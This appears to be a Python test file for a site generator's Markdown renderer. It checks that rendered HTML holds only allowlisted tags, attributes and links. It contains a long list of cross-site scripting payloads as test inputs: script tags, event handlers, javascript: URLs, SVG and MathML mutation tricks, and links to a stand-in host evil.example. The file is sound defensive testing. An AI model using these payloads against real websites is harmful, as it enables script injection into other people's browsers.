"""Hostile texts: whatever is typed, only what is allowed comes out, and it comes out."""

import re
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from generator.site.address import ROOT
from generator.site.markup import inline, plain
from tests.site.markup_targets import rendered

TEXT = set(
    (  # noqa: SIM905 # a list of words reads better as words
        "a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt "
        "em figure h3 h4 h5 h6 hr i img input ins kbd label li mark ol p pre q rp rt ruby s samp "
        "section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var "
        "wbr"
    ).split()
)
MATHEMATICS = set(
    (  # noqa: SIM905 # a list of words reads better as words
        "math menclose mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow "
        "mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover none b code "
        "em i s span u"
    ).split()
)
CLASSES = re.compile(
    r"(?:digest-[a-z-]+|admonition(?:-title)?|note|abstract|info|tip|success|question|warning|failure|danger|"
    r"bug|example|quote|task-list(?:-[a-z]+)?|footnote(?:-[a-z]+)?|highlight|[a-z][a-z0-9]{0,2}|math-core-[a-z-]+|menclose-[a-z]+)"
)
ATTRIBUTES = {
    *(
        "lang",
        "dir",
        "title",
        "class",
        "id",
        "style",
        "role",
        "aria-label",
        "tabindex",
        "href",
        "rel",
        "open",
    ),
    *(
        "start",
        "reversed",
        "colspan",
        "rowspan",
        "scope",
        "datetime",
        "src",
        "alt",
        "type",
        "disabled",
        "checked",
    ),
}
STYLES = re.compile(r"text-align: (?:left|right|center);")


def elements(html: str) -> list[tuple[str, dict[str, str], bool]]:
    """Parse a fragment strictly; return its elements' names and attributes, and whether they are MathML."""
    tree = html5lib.HTMLParser(strict=True).parseFragment(html.replace(ROOT, "/"))
    found = []
    for element in tree.iter():
        if isinstance(element.tag, str) and "}" in element.tag:
            namespace, name = element.tag.lstrip("{").split("}")
            found.append((name, dict(element.attrib), namespace.endswith("MathML")))
        elif element is not tree:
            found.append((str(element.tag), dict(element.attrib), False))
    return found


def check(html: str) -> None:
    """Assert that a fragment is well-formed and holds nothing that is not ours or allowed."""
    identifiers = []
    within_mathematics = "<math" in html
    for name, attributes, mathematics in elements(html):
        assert name in (MATHEMATICS if mathematics else TEXT), name
        if mathematics:
            assert not {"id", "href", "name"} & set(attributes), attributes
            continue
        assert set(attributes) <= ATTRIBUTES, (name, attributes)
        for value in attributes.get("class", "").split():
            assert CLASSES.fullmatch(value), value
        if "style" in attributes:
            assert STYLES.fullmatch(attributes["style"]) or within_mathematics, attributes
        if "href" in attributes:
            href = attributes["href"]
            parts = urlsplit(href)
            assert href.startswith(("/papers/", "/tags/", "#n1-")) or (
                (parts.scheme in {"http", "https"} and parts.hostname) or parts.scheme == "mailto"
            ), href
        assert name != "img" or attributes == {"src": "poster.jpg", "alt": "A poster"}
        identifiers += [attributes["id"]] if "id" in attributes else []
    assert len(identifiers) == len(set(identifiers))
    assert all(identifier.startswith("n1-") for identifier in identifiers)


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<math><maction actiontype='statusline#http://e.example' xlink:href=javascript:alert(1)>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><template><style></select><img src=x onerror=alert(1)></style>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<html manifest=//evil.example>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href=https:evil>x</a>",
    "<a href='https://good.example@evil.example'>x</a>",
    "<a href='https://x.example' onclick=alert(1) target=_blank ping=//evil.example>x</a>",
    "<p id=search name=search class=md-header style='position:fixed'>x</p>",
    "<h1 id=__config>x</h1><h2 name=location>y</h2>",
    "<div data-md-component=search hidden contenteditable autofocus tabindex=1>x</div>",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onmouseover=alert(1)/x>x</b>",
    "<b style=background:url(javascript:alert(1))>x</b>",
    "<bdo title='\"><script>alert(1)</script>'>x</bdo>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https://good.example&#64;evil.example)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example \"$x$\" 'y')",
    '[x](https://a.example/"onmouseover=alert(1)//)',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](poster.jpg)',
    "![$x$](nosuch.jpg)",
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "<a@b.example?subject=<script>>",
    "[[ismir/2015/park-hpss|<script>alert(1)</script>]]",
    "[[tag:cnn|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]]",
    "![[poster.jpg|<script>]] ![[../../x]]",
    "[<a href=https://a.example>b</a>](https://c.example) [[tag:cnn|[x](https://a.example)]]",
    "<a href=https://a.example>[[tag:cnn]] [^1]\n\n[^1]: x",
    "```<script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "$\\text{<script>alert(1)</script>}$",
    "$</math><script>alert(1)</script>$",
    "$\\href{javascript:alert(1)}{x}$ $\\color{red;background:url(//evil.example)}x$",
    "$\\begin{align}\\label{location}x\\end{align}$ $$\\eqref{location}$$",
    '!!! note onclick "<script>alert(1)</script>"\n    x',
    '!!! "><script> "x"\n    y',
    "[^<script>]: x\n\n[^<script>]",
    "[^1] [^1]\n\n[^1]: <script>alert(1)</script> [^1]",
    "- [x] <script>alert(1)</script>\n- [ ] <label>",
    "| <script>alert(1)</script> |\n|---|\n| <td onclick=alert(1)> |",
    "# <script>alert(1)</script> # {#location onclick=alert(1)}",
    "x{: onclick=alert(1) #location .md-header }",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- [x](https://a.example) `--><img src=x onerror=alert(1)>`",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "{{ config }} {% raw %} {{{ x }}} ${x} #{x}",
    "\ufdd10\ufdd2 \ufdd3 \ufdd0 \x020\x03 \x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "&#xfdd1;0&#xfdd2; &#64977;0&#64978; <b class='&#xfdd3;md-header' id=&#xFDD3location>x</b> $x$",
    "&\\#xfdd1;0&\\#xfdd2; <a href='&#xFDD3;javascript:alert(1)'>x</a> $x$",
    "<a href='&#xfdd0;x'>x</a> <a href='\ufdd0x'>x</a>",
    "<b title='\ufdd10\ufdd2' lang='\"><script>'>$\"><script>$</b>",
    "<b title=$x$>y</b> <b title='![[poster.jpg]]'>y</b> <b title='[[tag:cnn]]'>z</b>",
    "<table><tr><td>![[poster.jpg]]<caption>$$x$$</table><p><b>$$x$$",
    "<b><i><u><s>" * 20 + "\n\nx\n\n" * 20,
    "</div></section></article></main></body></html>x",
    "<li>x<dd>y<td>z<tr>w<caption>v",
    "<pre>![[poster.jpg]]\n\n$$x$$</pre><summary>$$x$$",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_forbidden_comes_out(payload: str) -> None:
    for text in (payload, f"- {payload}", f"> {payload}", f"| a |\n|---|\n| {payload} |", f"# {payload}"):
        check(rendered(text).html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_comes_out_of_titles(payload: str) -> None:
    check(inline(payload, "en"))
    assert not re.search("[\ufdd0-\ufdef\x00-\x08]", plain(payload) + inline(payload, "en"))


def test_braces_of_templates_stay_text() -> None:
    assert rendered("{{ x }} {% y %}").html == "<p>{{ x }} {% y %}</p>"


FRAGMENTS = st.sampled_from(
    (  # noqa: SIM905 # a list of words reads better as words
        "* ** _ ` ``` ~~~ $ $$ [ ] ( ) ![ [[ ]] ![[ | \\ < > </ /> <!-- --> <b> </b> <p> <table> <td> <li> "
        "<script> <svg> <math> <style> <a <h1> <details> href= &# &#x ; & # - + 1. 2015. : --- === !!! note "
        "[^1] [^1]: [x]: https://x.example javascript: poster.jpg tag:cnn \\frac{ } { {{ \\text{ "
        "가 a é \u0300 \u202e \ufdd0 \ufdd1 \ufdd2 \ufdd3 \x02 \x03"
    ).split()
)
TEXTS = st.lists(
    st.one_of(FRAGMENTS, st.sampled_from([" ", "  ", "    ", "\n", "\n\n", "\t"]), st.text(max_size=3)),
    max_size=40,
).map("".join)


@given(TEXTS)
@settings(deadline=None, max_examples=400, derandomize=True)
@example("- <table>\n- ")
def test_any_text_is_well_formed_and_clean(text: str) -> None:
    check(rendered(text).html)
    check(inline(text, "ko"))


LONG = 64 * 1024


@pytest.mark.parametrize(
    "unit",
    [
        *(
            "[",
            "]",
            "*",
            "_",
            "`",
            ">",
            "(",
            "![",
            "[^",
            "[^1]",
            "|",
            "<",
            "<!--",
            "- ",
            "> - ",
            "$",
            "$$",
            "$a",
            "#",
        ),
        *(
            "\\",
            "**a",
            "*a **b ",
            "_a*b",
            "[a](",
            "[a](<",
            "![a](",
            '[a](b "',
            "[a](`)` ",
            "[[",
            "[[a",
            "[[a]]",
        ),
        *(
            "&#x",
            "&",
            "<b>",
            "<b title=a>",
            "<script>",
            "<a@",
            "</p>",
            "\n",
            "a\n",
            "# a\n\n",
            "> a\n\n",
            "# a\n",
        ),
        *(
            "---\n",
            "=\n",
            "- a\n",
            "1. a\n- b\n",
            "> a\n- b\n",
            "!!! note\n",
            "```\n",
            "$$\n",
            "$$a\n",
            "<!--a\n",
        ),
        *("# a\n", "> a\n\n", "<!--a\n", "a|b\n-|-\n", "[a]: b\n", "[^a]: b\n"),
    ],
)
def test_long_rows_come_out(unit: str) -> None:
    html = rendered((unit * LONG)[:LONG]).html
    assert len(html) < 40 * LONG


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("[" * LONG, "markdown-too-nested"),
        ("[a](" * 1000, "markdown-too-nested"),
        ("*a " * 8000, "markdown-too-nested"),
        (">" * 40 + " a", "markdown-too-nested"),
        ("- " * 40 + "a", "markdown-too-nested"),
        ("\n".join("  " * depth + "- a" for depth in range(40)), "markdown-too-nested"),
        ("<b>" * 40, "markdown-too-nested"),
        ("$" + "{" * 8000 + "}" * 8000 + "$", "markdown-formula"),
    ],
)
def test_what_asks_too_much_is_a_mistake(text: str, code: str) -> None:
    mistakes = rendered(text).mistakes
    assert code in {mistake.code for mistake in mistakes}
    assert all(mistake.needle in text for mistake in mistakes)
